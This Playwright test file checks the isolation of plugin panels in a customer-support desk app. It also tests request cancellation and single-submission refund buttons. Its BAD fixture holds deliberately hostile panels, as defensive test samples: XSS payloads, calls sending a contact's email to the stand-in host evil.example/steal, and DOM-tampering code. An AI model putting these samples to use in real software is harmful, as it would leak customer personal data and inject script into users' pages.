"""Panels in the real page: an error affects its panel alone; a request is sent once, for the contact in view."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect
from pydantic_core import to_json

from tests import samples
from tests.browser.editable_desk import EditableDesk, serve_copy
from tests.browser.shared_context import new_context

BAD = """
import asyncio

from htpy import div
from js import document, fetch
from markupsafe import Markup

from app.kit import facts, get_json, panel

MARKUP = "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>"


@panel("Raises", order=-9)
def raises(context):
    raise ValueError("no such field")


@panel("Hangs", order=-8, time_out=0.3)
async def hangs(context):
    await asyncio.Event().wait()


@panel("Nonsense", order=-7)
def nonsense(context):
    return {"orders": []}


@panel("Text", order=-6)
def text(context):
    return facts({MARKUP: MARKUP})


@panel("Markup", order=-5)
def markup(context):
    return Markup(MARKUP)


@panel("Forbidden", order=-4)
async def forbidden(context):
    return await get_json("https://evil.example/steal", {"email": context.contact.email})


@panel("Behind the back", order=-3)
async def behind_the_back(context):
    await fetch(f"https://evil.example/steal?email={context.contact.email}")


@panel("Writes HTML", order=-2)
def writes_html(context):
    document.body.innerHTML = MARKUP


@panel("Removes", order=-1)
async def removes(context):
    document.querySelector("#panel-contact").remove()
    document.querySelector("#title-conversation").textContent = "Hacked"
    return "removed"
"""

BODIES = {
    "raises": "ValueError: no such field",
    "hangs": "No response within 0.3 seconds.",
    "nonsense": "TypeError: the panel returned a dict; it must return elements, text, a list of them, or None",
    "text": "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>",
    "forbidden": "https://evil.example may not be asked: the setting panel_origins in pyscript.toml doesn't name it.",
    "behind_the_back": "TypeError: Failed to fetch",
    "writes_html": "requires 'TrustedHTML' assignment",
    "removes": "removed",
}

SHOP = "https://shop.example"

ASKING = f"""
from app.kit import action, button_to, get_json, panel, post_json


@action
async def refund(context, order):
    await post_json("{SHOP}/refunds", {{"order": order}})
    return "Refunded"


@panel("Orders", order=-1)
async def orders(context):
    told = await get_json("{SHOP}/orders", {{"email": context.contact.email}})
    return told, button_to("Refund", refund, told)
"""


@pytest.fixture(scope="module")
def forbidden_requests() -> list[str]:
    """What a site has heard that no panel may ask."""
    return []


@pytest.fixture(scope="module")
def bad(
    chromium: Browser, forbidden_requests: list[str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[EditableDesk]:
    """The page with all bad panels on it, opened once for all tests."""
    page = new_context(chromium).new_page()
    with serve_copy(page, tmp_path_factory.mktemp("bad")) as editable_desk:
        editable_desk.page.route("https://evil.example/**", lambda route: forbidden_requests.append(route.request.url))
        (editable_desk.project / "app" / "custom_panels" / "bad.py").write_text(BAD, encoding="utf-8")
        editable_desk.open(samples.WEBSITE)
        yield editable_desk
    page.context.close()


@pytest.mark.parametrize("name", BODIES)
def test_a_faulty_panel_shows_its_error_in_its_place(bad: EditableDesk, name: str) -> None:
    expect(bad.panel(name).locator(".panel-body")).to_contain_text(BODIES[name])


def test_the_panels_beside_it_live(bad: EditableDesk) -> None:
    expect(bad.panel("contact").locator("dl").first).to_be_attached()
    expect(bad.panel("messages").locator(".talk")).to_be_attached()


def test_what_a_panel_took_away_is_back_with_the_next_drawing(bad: EditableDesk) -> None:
    expect(bad.panel("removes").locator(".panel-body")).to_have_text("removed")

    expect(bad.panel("contact").get_by_text("jordan.sample@customer.example")).to_be_visible()


def test_what_a_panel_wrote_into_another_is_gone_when_that_is_drawn_next(bad: EditableDesk) -> None:
    expect(bad.panel("removes").locator(".panel-body")).to_have_text("removed")
    data = samples.data(samples.WEBSITE)
    data["conversation"]["additional_attributes"]["browser"]["platform_name"] = "Plan 9"

    bad.post_data(data)

    expect(bad.panel("conversation").get_by_role("heading")).to_have_text("Conversation")


def test_no_script_of_a_panels_text_or_markup_runs(bad: EditableDesk) -> None:
    expect(bad.panel("markup").locator("img")).to_be_attached()
    expect(bad.panel("text").locator("img")).to_have_count(0)

    assert bad.frame.evaluate("window.pwned") is None


def test_no_other_site_hears_of_it(bad: EditableDesk, forbidden_requests: list[str]) -> None:
    expect(bad.panel("behind_the_back").locator(".panel-error")).to_be_visible()

    assert forbidden_requests == []


class Shop:
    """A shop that panels ask; its answers may be held back.

    Attributes:
        asked: Method and query of each request.
    """

    def __init__(self, editable_desk: EditableDesk) -> None:
        self.requests: list[str] = []
        self.pending: list[Route] = []
        self.holds = False
        editable_desk.page.route(f"{SHOP}/**", self._answer)

    def _answer(self, route: Route) -> None:
        method, url = route.request.method, route.request.url
        if method != "OPTIONS":
            self.requests.append(f"{method} {url.removeprefix(SHOP)}")
        if self.holds and method != "OPTIONS":
            self.pending.append(route)
        else:
            self.fulfil(route)

    def fulfil(self, route: Route) -> None:
        """Answer with who was asked about."""
        body = to_json(f"of {route.request.url.partition('email=')[2].partition('%40')[0]}")
        headers = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"}
        route.fulfill(body=body, content_type="application/json", headers=headers)

    def release(self) -> None:
        """Answer what was held back, and hold back no more."""
        self.holds = False
        for route in self.pending:
            self.fulfil(route)
        self.pending.clear()


@pytest.fixture
def editable_desk(page: Page, tmp_path: Path) -> Iterator[EditableDesk]:
    """The page with a panel that asks a shop."""
    with serve_copy(page, tmp_path) as editable_desk:
        (tmp_path / "app" / "custom_panels" / "orders.py").write_text(ASKING, encoding="utf-8")
        editable_desk.allow(SHOP)
        yield editable_desk
        assert editable_desk.problems == []


def of(name: str) -> dict[str, object]:
    """The data of a conversation with somebody."""
    data = samples.data(samples.WEBSITE)
    number = sum(map(ord, name))
    data["contact"] |= {"id": number, "name": name, "email": f"{name}@x.example"}
    data["conversation"]["id"] = number
    return data


def test_another_contact_cancels_requests_and_keeps_earlier_answers(
    editable_desk: EditableDesk,
) -> None:
    shop = Shop(editable_desk)
    editable_desk.open(samples.WEBSITE)
    orders = editable_desk.panel("orders")
    expect(orders).to_contain_text("of jordan.sample")

    shop.holds = True
    editable_desk.post_data(of("ada"))
    expect(orders).to_have_attribute("aria-busy", "true")
    shop.holds = False
    with editable_desk.page.expect_event("requestfailed") as failed:
        editable_desk.post_data(of("eve"))
    assert "email=ada" in failed.value.url
    expect(orders).to_contain_text("of eve")

    editable_desk.post_data(samples.data(samples.WEBSITE))
    expect(orders).to_contain_text("of jordan.sample")
    assert [each.partition("email=")[2] for each in shop.requests] == [
        "jordan.sample%40customer.example",
        "ada%40x.example",
        "eve%40x.example",
    ]


def test_a_button_acts_once_and_shows_its_progress_and_result(editable_desk: EditableDesk) -> None:
    shop = Shop(editable_desk)
    editable_desk.open(samples.WEBSITE)
    button = editable_desk.panel("orders").get_by_role("button", name="Refund")
    expect(button).to_be_enabled()

    shop.holds = True
    button.evaluate("(button) => { for (let times = 0; times < 3; times++) button.click(); }")
    expect(button).to_be_disabled()
    expect(button).to_have_attribute("aria-busy", "true")
    shop.release()

    expect(editable_desk.panel("orders").get_by_role("status")).to_have_text("Refunded")
    assert [each for each in shop.requests if each.startswith("POST")] == ["POST /refunds"]
